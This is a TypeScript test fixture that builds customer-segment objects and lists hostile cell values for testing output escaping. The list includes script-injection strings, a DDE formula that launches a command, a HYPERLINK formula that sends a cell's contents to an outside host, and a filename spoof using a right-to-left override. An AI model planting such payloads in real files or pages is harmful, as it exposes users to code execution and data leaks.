import type { Segment, Trait } from '../../../src/core/segment';

export const segment = (id: number, name: string, size = 10, traits: readonly Trait[] = []): Segment => ({
  id,
  letter: String.fromCharCode(65 + id),
  name,
  size,
  share: 0.5,
  traits,
  summary: `${size} customers (50%).`,
  typicalRows: [],
});

/** What a hostile file may put into cells, headings and categories. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1)',
  '+49 170 1234567',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u0000=1+1',
  '＝1+1',
  "'",
  "''=1",
  "'t Hooft",
  '"quoted"',
  'a,b;c\td',
  'two\r\nlines',
  ' blanks ',
  '\uFEFFmark',
  'Zoë 👩‍👩‍👧 ',
  ']]> & &amp; --> ?>',
  '\u202Egnp.exe',
];
